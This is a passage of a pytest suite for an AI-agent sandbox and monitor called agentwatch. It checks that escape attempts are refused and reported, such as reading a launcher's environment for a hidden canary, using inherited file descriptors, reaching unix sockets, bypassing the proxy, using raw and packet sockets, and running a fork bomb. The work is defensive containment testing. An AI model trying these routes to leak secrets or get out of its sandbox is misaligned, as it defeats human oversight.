    seccomp_denied(run, "process.ptrace", "process", "process_vm_writev")
    assert_denied_not_killed(run)


# ======================================================================= the launcher

@uses("environ")
def test_reading_agentwatch_environ(run):
    """/proc/$PPID/environ, where agentwatch's environment (holding a canary
    the agent was not given) used to be one read away. In the run's PID
    namespace $PPID is pid 1, the run's init: a forked copy of agentwatch,
    non-dumpable, so its procfs has no entry for it (hidepid=invisible):
    ENOENT. agentwatch's own pid names nothing in there, and the host's /proc
    is not mounted in the agent's view at all."""
    assert run.read("ws", "own-env").strip() == "unset"
    assert run.attempts("read environ")[0]["path"] == "/proc/1/environ", run.report()
    refused(run, "read environ", "ENOENT")
    assert run.canary not in run.read("ws", "env-copy")
    assert run.lifecycle("start")["detail"]["enforcement"]["namespaces"] == ["pid", "ipc", "net"]
    assert_denied_not_killed(run)


@uses("inherited_fd")
def test_fd_inherited_from_the_launcher(run):
    """agentwatch was started with an extra open fd (a file outside the
    sandbox). The agent gets 0, 1, 2 only: the fd is closed (EBADF); the
    detour through /proc/$PPID/fd/N finds no such process (the run's init
    is hidden, and closed every fd above 2 anyway)."""
    own = run.attempts("own fds")[0]["value"]
    assert str(run.fd) not in own
    assert run.result("read inherited fd") == "EBADF"
    refused(run, "read via launcher's /proc fd", "ENOENT")
    assert run.fd_secret not in run.read("ws", "fd-copy")
    assert_denied_not_killed(run)


# ======================================================================= unix sockets

@uses("unix_path")
def test_pathname_unix_socket_is_killed(run):
    """Linux 6.7+ (the CI kernel): DENIED by the cgroup unix connect hook,
    which the policy's `unix: false` attaches (EPERM, no connection), and
    the syscall sensor reports it with the socket's name. Older kernels with
    BPF LSM (the VM's 6.1): DENIED by the socket_connect program (EPERM).
    Older kernels without: CANNOT BE DENIED (Landlock has no right for
    connect() to a pathname unix socket and the agent owns the socket file
    as root), only detected: the connection is made and the judge kills the
    agent before it sends anything (it waits 5 s, then sends). Killed either
    way: the rule's action is kill."""
    lst = run.listeners["unix"]
    assert lst.data == []                             # nothing sent
    v = run.violation("network.unix", "network", addr=run.sock_path)   # the whole name
    assert v["action"] == "kill"
    assert_killed(run, "network.unix")
    if unix_hooks(run):
        refused(run, "connect unix", "EPERM")
        assert lst.connections == 0
        assert v["detail"]["kernel"] == "denied (EPERM)"


@uses("unix_short_name")
def test_unix_socket_by_a_short_relative_name_is_killed(run):
    """As above, by a relative name: the sensor copies the caller's sockaddr
    at its exact length, however short, and the name is resolved against
    the agent's cwd, so the report names the socket file."""
    lst = run.listeners["unix"]
    assert lst.data == []
    v = run.violation("network.unix", "network", addr=run.path("outside", "s"))
    assert v["action"] == "kill"
    assert_killed(run, "network.unix")
    if unix_hooks(run):
        refused(run, "connect unix", "EPERM")
        assert lst.connections == 0


@uses("unix_abstract")
def test_abstract_unix_socket(run):
    """A test-owned abstract socket outside the sandbox: Landlock's
    abstract-unix scope (Linux 6.12+) or the BPF LSM socket_connect program
    (older kernels with BPF LSM: the VM's 6.1) refuses the connect (EPERM)."""
    refused(run, "connect unix", "EPERM")
    lst = run.listeners["unix"]
    assert lst.connections == 0 and lst.data == []
    v = run.violation("network.unix", "network")
    assert ("@" + run.abstract).startswith(v["detail"]["addr"])     # may be cut, see above
    kernel_said(v, "EPERM")
    assert_killed(run, "network.unix")


# ======================================================================= network

def tcp_refusal(run):
    """What a refused TCP connect returns: EACCES from Landlock's TCP port
    rules (ABI 4, Linux 6.7+), else EPERM from the cgroup BPF connect hook
    (the VM's 6.1)."""
    downgrades = run.lifecycle("start")["detail"]["enforcement"]["downgrades"]
    return "EPERM" if any("TCP connect rules need ABI" in d for d in downgrades) else "EACCES"


def _net_violation(run, tag, rule="network.loopback"):
    proto, fam, addr, port = run.ports[tag]
    if tag == "udp-mapped":
        addr = "127.0.0.1"       # sendmsg4 judges a mapped UDP destination as IPv4
    # UDP: reported by the cgroup BPF sendmsg hook; TCP: by the syscall sensor
    # (Landlock refuses the connect before the cgroup BPF connect hook runs)
    return run.violation(rule, "network", addr=addr, port=port,
                         op="sendmsg" if proto == "udp" else "connect")


@uses("network")
def test_unconnected_udp_sendto(run):
    """sendto() on an unconnected UDP socket: no connect() to judge, so the
    cgroup BPF sendmsg4 hook does (EPERM)."""
    assert [a["result"] for a in run.attempts("sendto") if a["tag"] == "udp4"] == ["EPERM"]
    assert run.listeners["udp4"].data == []
    kernel_said(_net_violation(run, "udp4"), "EPERM")


@uses("network")
def test_dns_to_a_resolver_in_another_network_namespace(netns, run):
    """DNS over UDP and TCP to port 53 of a resolver the test runs in its own
    network namespace (reachable: the test's control packet arrived).
    UDP: cgroup BPF sendmsg4 (EPERM); TCP: Landlock's port rule (EACCES)."""
    if netns is None:
        pytest.skip("network namespaces cannot be made on this host")
    tries = {a["tag"]: a["result"] for a in run.attempts("sendto") + run.attempts("connect")}
    assert tries["dns-netns"] == "EPERM" and tries["dns-netns-tcp"] == tcp_refusal(run)
    with open(netns["log"]) as f:
        got = f.read()
    assert "CONTROL" in got and "LEAK" not in got
    kernel_said(_net_violation(run, "dns-netns", "network.egress"), "EPERM")
    kernel_said(_net_violation(run, "dns-netns-tcp", "network.egress"), tcp_refusal(run))


@uses("network")
def test_dns_to_the_loopback_resolver_address(run):
    """UDP 53 to 127.0.0.53 (systemd-resolved's address): loopback, but not
    the one allowed port."""
    if "dns-loopback" not in run.ports:
        pytest.skip("127.0.0.53:53 is taken by a resolver on this host")
    assert [a["result"] for a in run.attempts("sendto") if a["tag"] == "dns-loopback"] == ["EPERM"]
    assert run.listeners["dns-loopback"].data == []
    kernel_said(_net_violation(run, "dns-loopback"), "EPERM")


@uses("network")
def test_ipv6_loopback_other_port(run):
    """::1 on a port other than 18080, TCP (Landlock) and UDP (cgroup BPF)."""
    if "tcp6" not in run.ports:
        pytest.skip("no IPv6 on this host")
    tries = {a["tag"]: a["result"] for a in run.attempts("sendto") + run.attempts("connect")}
    assert tries["tcp6"] == tcp_refusal(run) and tries["udp6"] == "EPERM"
    assert run.listeners["tcp6"].connections == 0 and run.listeners["udp6"].data == []
    kernel_said(_net_violation(run, "tcp6"), tcp_refusal(run))
    kernel_said(_net_violation(run, "udp6"), "EPERM")


@uses("network")
def test_ipv4_mapped_ipv6_destination(run):
    """::ffff:127.0.0.1 from an AF_INET6 socket reaches the IPv4 listener:
    judged as 127.0.0.1 (mapped addresses normalised), TCP and UDP."""
    if "tcp-mapped" not in run.ports:
        pytest.skip("no IPv6 on this host")
    tries = {a["tag"]: a["result"] for a in run.attempts("sendto") + run.attempts("connect")}
    assert tries["tcp-mapped"] == tcp_refusal(run) and tries["udp-mapped"] == "EPERM"
    assert run.listeners["tcp-mapped"].connections == 0
    assert run.listeners["udp-mapped"].data == []
    kernel_said(_net_violation(run, "tcp-mapped"), tcp_refusal(run))
    kernel_said(_net_violation(run, "udp-mapped"), "EPERM")


@uses("network")
def test_direct_connect_bypassing_the_proxy(run):
    """HTTP_PROXY points at 127.0.0.1:18080, the policy's one loopback port:
    through it the request goes out (control); straight to the destination
    it is refused (Landlock TCP port rule, EACCES; before ABI 4 the cgroup
    BPF connect hook, EPERM)."""
    tries = {a["tag"]: a["result"] for a in run.attempts("connect")}
    assert tries["via-proxy"] == "ok" and tries["bypass-proxy"] == tcp_refusal(run)
    proxy = run.listeners["proxy"]
    assert proxy.connections == 1 and proxy.data and proxy.data[0].startswith(b"GET http://")
    direct = run.listeners["direct"]
    assert direct.connections == 0 and direct.data == []
    v = run.violation("network.loopback", "network", addr="127.0.0.1", port=direct.port)
    kernel_said(v, tcp_refusal(run))
    assert not run.violations(port=18080)           # the allowed path is not a violation


@uses("network")
def test_raw_and_packet_sockets(run):
    """Raw IP and AF_PACKET sockets send what no connect/sendmsg hook sees.
    Raw inet: refused (the agent has no CAP_NET_RAW; the cgroup BPF
    sock_create program would refuse it too), and reported by the syscall
    sensor, which saw the call. Packet: no cgroup hook exists for it; the
    seccomp filter refuses the family before the call starts (so its
    arguments are never seen), reported from the exit tracepoint."""
    assert run.result("socket(AF_INET, SOCK_RAW, IPPROTO_UDP)") == "EPERM"
    assert run.result("socket(AF_PACKET, SOCK_RAW)") == "EPERM"
    assert run.listeners["raw"].data == []
    kernel_said(run.violation("network.socket", "network", family="inet", type="raw"), "EPERM")
    seccomp_denied(run, "network.socket", "network", "socket")


@uses("network")
def test_socket_families_outside_the_policy(run):
    """Issue #14: AF_VSOCK (created and bound before), NETLINK_USERSOCK (data
    to a host process) and socket(AF_INET, SOCK_PACKET) are refused by the
    seccomp filter (EPERM), and every one of them is reported as
    network.socket; NETLINK_ROUTE, which address look-ups need, still works.
    One violation with the count of refusals (the filter's, not also the
    cgroup BPF program's or the sensor's)."""
    for op in ("socket(AF_VSOCK)", "socket(AF_NETLINK, NETLINK_USERSOCK)", "socket(AF_INET, SOCK_PACKET)"):
        assert run.result(op) == "EPERM", run.report()
    assert run.result("vsock bind") is None and run.result("usersock sendto") is None
    assert run.listeners["netlink"].data == [], "netlink data reached a host process"
    assert run.result("socket(AF_NETLINK, NETLINK_ROUTE)") == "ok", run.report()
    assert run.result("RTM_GETADDR") == "ok", run.report()
    seccomp_denied(run, "network.socket", "network", "socket")
    total = sum(v["count"] for v in run.events if v["kind"] == "violation" and v["rule"] == "network.socket"
                and "socket" in (v["detail"].get("syscall"), v["detail"].get("target")))
    assert total == 4, run.report()       # packet, vsock, usersock, SOCK_PACKET
    assert_denied_not_killed(run)


@uses("user_priority")
def test_user_wide_priority_changes(run):
    """setpriority(PRIO_USER)/ioprio_set(IOPRIO_WHO_USER) would reach the
    victim (same uid, outside the run): refused by seccomp, reported, and
    the victim's nice value and I/O priority are unchanged."""
    assert run.result("setpriority(PRIO_USER)") == "EPERM", run.report()
    assert run.result("ioprio_set(IOPRIO_WHO_USER)") == "EPERM", run.report()
    assert (victim_nice(run.victim), victim_ioprio(run.victim)) == run.victim_before
    seccomp_denied(run, "syscalls.deny", "syscall", "setpriority")
    seccomp_denied(run, "syscalls.deny", "syscall", "ioprio_set")
    assert_denied_not_killed(run)


# ======================================================================= resources

@uses("fork_bomb")
def test_fork_bomb(run):
    """The pids limit (64, the v1 pids controller on this hybrid host)
    refuses the 64th task (EAGAIN); the refusal is read from pids.events and
    reported, and resources.pids: kill ends the run by itself."""
    for fork in run.attempts("fork"):       # the bomb's own report, unless the kill came first
        assert fork["result"] == "EAGAIN" and fork["forks"] < 64
    applied = run.lifecycle("start")["detail"]["enforcement"].get("limits_applied", {})
    assert applied.get("pids") in ("v1", "v2")
    assert max_alive(run.events) <= 64
    v = run.violation("resources.pids", "resource")
    # the refused fork itself (its exit: EAGAIN), or the pids.events counter
    assert v["detail"]["layer"] == "pids"
    assert v["detail"].get("syscall") in ("clone", "clone3", "fork", "vfork") or v["detail"]["max"] >= 1
    assert_killed(run, "resources.pids")
    assert run.elapsed < 60


@uses("memory")
def test_memory_exhaustion(run):
    """2 GiB against a 512M limit: the kernel OOM-kills the hog inside the
    run's memory cgroup; the rest of the agent goes on."""
    assert not run.exists("ws", "hog-done")
    assert run.read("ws", "hog-status").strip() == "hog=137"      # SIGKILL
    allocated = [a["mb"] for a in run.attempts("allocated")]
    assert allocated and max(allocated) <= 512
    v = run.violation("resources.memory", "resource")
    assert v["detail"]["oom_kill"] >= 1
    assert run.rc == 0 and run.exists("ws", "finished")


# ======================================================================= the policy

def test_policy_lints_clean():
    from conftest import aw
    r = aw("policy", "lint", POLICY)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "0 errors, 0 warnings" in r.stdout + r.stderr
